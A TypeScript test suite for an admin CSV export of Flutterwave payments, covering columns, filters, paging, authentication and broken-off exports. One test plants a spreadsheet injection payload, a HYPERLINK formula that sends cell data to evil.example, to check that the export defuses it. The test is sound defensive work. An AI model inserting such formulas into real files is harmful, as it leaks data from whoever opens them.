import { once } from "node:events"
import { request } from "node:http"

import type { Emulator } from "../emulator"
import { type CheckoutStory, type Store, storyOf, waitFor } from "../harness"
import { withStore } from "../harness/with-store"

const EXPORT = "/admin/flutterwave/payments/export"

/** More than a few of the pages that an export is read in. */
const MANY = 1_203

describe("the payments as a file for the bookkeeper", () => {
  let emulator: Emulator
  let store: Store
  let story: CheckoutStory

  withStore({}, (started) => {
    ;({ emulator, store } = started)
    story = storyOf(store)
  })

  const download = async (query = "") => {
    const answer = await store.admin.get(`${EXPORT}?${query}`)
    expect([answer.status, answer.text]).toEqual([200, expect.any(String)])
    return answer
  }

  /** The lines of an export by their columns; none of what tests write holds a comma. */
  const lines = async (query = "") => {
    const { text } = await download(query)
    expect(text.endsWith("\r\n")).toBe(true)
    const [head, ...rows] = text.slice(0, -2).split("\r\n")
    const columns = head!.split(",")
    return rows.map((row) => {
      const fields = row.split(",")
      expect(fields).toHaveLength(columns.length)
      return Object.fromEntries(columns.map((column, n) => [column, fields[n]!]))
    })
  }

  it("is a CSV file to be saved, and never kept by a browser", async () => {
    const { headers } = await download()
    expect(headers["content-type"]).toBe("text/csv; charset=utf-8")
    expect(headers["content-disposition"]).toMatch(
      /^attachment; filename="flutterwave-payments-\d{4}-\d\d-\d\d\.csv"$/,
    )
    expect(headers["cache-control"]).toBe("no-store")
  })

  it("says what was paid, what it cost, with what, and for which order", async () => {
    const { cart, data, link, session, txRef } = await story.openPage()
    const paid = await emulator.pay(link, "success")
    const order = await story.orderPaidOnce(cart.id)
    await story.settled(session.id)
    const [line, ...others] = await lines(`q=${txRef}`)
    expect(others).toEqual([])
    expect(line).toEqual({
      id: data.payment_id,
      created_at: expect.stringMatching(/^\d{4}-\d\d-\d\dT.*Z$/) as string,
      status: "settled",
      mode: "test",
      amount: data.amount.toFixed(2),
      currency_code: "ngn",
      refunded_amount: "0.00",
      paid_amount: String(paid.amount),
      paid_currency_code: "ngn",
      fee: String(paid.app_fee),
      net: String(paid.amount_settled),
      payment_type: "card",
      card_brand: expect.any(String) as string,
      card_last4: paid.card!.last_4digits,
      bank: "",
      tx_ref: txRef,
      transaction_id: String(paid.id),
      order_id: order.id,
      email: "ada@shopper.example",
      attention_reason: "",
    })
  })

  it("names the bank that a transfer came from", async () => {
    const { link, session, txRef } = await story.openPage()
    await emulator.pay(link, "success", { method: "banktransfer" })
    await story.settled(session.id)
    expect(await lines(`q=${txRef}`)).toEqual([
      expect.objectContaining({
        payment_type: "bank_transfer",
        card_last4: "",
        bank: "Access Bank",
      }),
    ])
  })

  it("claims no fee and nothing kept for money that never came", async () => {
    const { link, session, txRef } = await story.openPage()
    const declined = await emulator.pay(link, "decline")
    await story.reaches(session.id, "retrying")
    expect(await lines(`q=${txRef}`)).toEqual([
      expect.objectContaining({
        status: "retrying",
        transaction_id: String(declined.id),
        paid_amount: "",
        paid_currency_code: "",
        fee: "",
        net: "",
        order_id: "",
      }),
    ])
  })

  it("shows money that waits for a person, with the reason and what came", async () => {
    const { link, session, txRef } = await story.openPage()
    const short = await emulator.pay(link, "underpay")
    await story.needsAttention(session.id, "underpaid")
    // A newer page of the same payment, on which nothing came, does not hide the money.
    await store.sql(
      `INSERT INTO flutterwave_attempt (id, payment_id, tx_ref)
       SELECT id || '_next', id, 'mfw_next_of_' || id FROM flutterwave_payment WHERE session_id = $1`,
      [session.id],
    )
    expect(await lines(`q=${txRef}`)).toEqual([
      expect.objectContaining({
        status: "attention",
        attention_reason: "underpaid",
        tx_ref: txRef,
        transaction_id: String(short.id),
        paid_amount: String(short.amount),
        paid_currency_code: "ngn",
        net: String(short.amount_settled),
      }),
    ])
  })

  it("says in which currency money came that came in another one", async () => {
    const { data, link, session, txRef } = await story.openPage()
    const other = await emulator.pay(link, "wrong_currency")
    await story.needsAttention(session.id, "wrong_currency")
    expect(await lines(`q=${txRef}`)).toEqual([
      expect.objectContaining({
        amount: data.amount.toFixed(2),
        currency_code: "ngn",
        paid_amount: String(other.amount),
        paid_currency_code: other.currency.toLowerCase(),
        // No fee in another currency than the row's.
        fee: "",
        net: "",
      }),
    ])
  })

  it("holds nothing that pays, and nothing that a spreadsheet would run", async () => {
    const { data, session, checkoutUrl } = await story.openPage()
    const formula = `=HYPERLINK("http://evil.example/?"&A1,"Refund")`
    await store.sql("UPDATE flutterwave_payment SET email = $2 WHERE session_id = $1", [
      session.id,
      formula,
    ])
    const { text } = await download(`q=${data.payment_id}`)
    const whole = await download()
    await store.sql("UPDATE flutterwave_payment SET email = 'ada@shopper.example'")
    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Refund"")",`)
    const token = new URL(checkoutUrl).pathname.split("/").pop()!
    expect(whole.text).not.toContain(token)
    expect(text).not.toMatch(/token|http:\/\/localhost/)
  })

  it("holds just what is filtered for, in the order it was made", async () => {
    const opened = [await story.openPage(), await story.openPage({ currency: "KES" })]
    const ids = opened.map(({ data }) => data.payment_id)
    const exported = async (query: string) =>
      (await lines(query)).map(({ id }) => id).filter((id) => ids.includes(id!))
    expect(await exported("")).toEqual([...ids].reverse())
    expect(await exported("order=created_at")).toEqual(ids)
    expect(await exported("currency_code=kes&mode=test&status=awaiting&status=pending")).toEqual([
      ids[1],
    ])
    expect(await exported("mode=live")).toEqual([])
    expect(await exported("created_to=2020-01-01")).toEqual([])
  })

  it.each(["-amount", "amount", "-updated_at", "updated_at", "email"])(
    "is not sorted by %s, which payments move by while they are read",
    async (order) => {
      const answer = await store.admin.get(`${EXPORT}?order=${order}`)
      expect([answer.status, (answer.body as { message: string }).message]).toEqual([
        400,
        expect.stringContaining(`Expected: '-created_at, created_at' for field 'order'`),
      ])
    },
  )

  it("is of one order or of all, and not of a blank one", async () => {
    const answer = await store.admin.get(`${EXPORT}?order_id=`)
    expect([answer.status, answer.text]).toEqual([400, expect.stringMatching(/order_id: /)])
  })

  describe("of more payments than fit into one page", () => {
    beforeAll(async () => {
      // Many were made within one microsecond, as by an import: none may fall between two pages.
      await store.sql(
        `INSERT INTO flutterwave_payment (id, session_id, payment_collection_id, amount, raw_amount,
           currency_code, mode, email, pay_token, created_at)
         SELECT 'flwpay_many_' || n, 'payses_many_' || n, 'pay_col_many_' || n, n,
           jsonb_build_object('value', n::text, 'precision', 20), 'ngn', 'live',
           'many' || n || '@shopper.example', 'token_many_' || n,
           '2022-02-02T00:00:00.123456Z'::timestamptz + make_interval(secs => (n / 300) * 0.000001)
         FROM generate_series(1, $1::int) n`,
        [MANY],
      )
    })

    it.each(["order=created_at", "order=-created_at", "q=MANY"])(
      "holds each of them once (%s)",
      async (query) => {
        const ids = (await lines(`mode=live&${query}`)).map(({ id }) => id)
        expect([ids.length, new Set(ids).size]).toEqual([MANY, MANY])
      },
    )

    it("stops reading when the reader has gone", async () => {
      const { hostname, port } = new URL(store.url)
      const asked = request({
        ...{ hostname, port, path: EXPORT },
        headers: { authorization: `Bearer ${await store.admin.token()}` },
      })
      asked.end()
      const [answer] = (await once(asked, "response")) as [NodeJS.ReadableStream]
      await once(answer, "readable")
      asked.destroy()
      asked.on("error", () => undefined)
      expect((await store.request.get("/health")).status).toBe(200)
    })

    it("breaks off, instead of ending as if it were whole, when the books cannot be read on", async () => {
      // The first page is read, the second stumbles over an amount that is none.
      await store.sql("UPDATE flutterwave_payment SET currency_code = 'xxx' WHERE id = $1", [
        "flwpay_many_1",
      ])
      const broken = download("mode=live&order=-created_at")
      await expect(broken).rejects.toThrow(/aborted|hang up|reset/)
      await waitFor(() => /export of Flutterwave payments broke off/.test(store.log()), {
        what: "the log says that the export broke off",
      })
      const refused = await store.admin.get(`${EXPORT}?mode=live&order=created_at`)
      await store.sql("UPDATE flutterwave_payment SET currency_code = 'ngn' WHERE id = $1", [
        "flwpay_many_1",
      ])
      expect(refused.status).toBe(500)
    })
  })

  it("needs an admin's login, and takes no page of it and nothing unknown", async () => {
    expect((await store.request.get(EXPORT)).status).toBe(401)
    for (const query of ["limit=10", "offset=1", "surprise=1", "status=stolen"]) {
      const answer = await store.admin.get(`${EXPORT}?${query}`)
      expect([query, answer.status]).toEqual([query, 400])
    }
  })
})
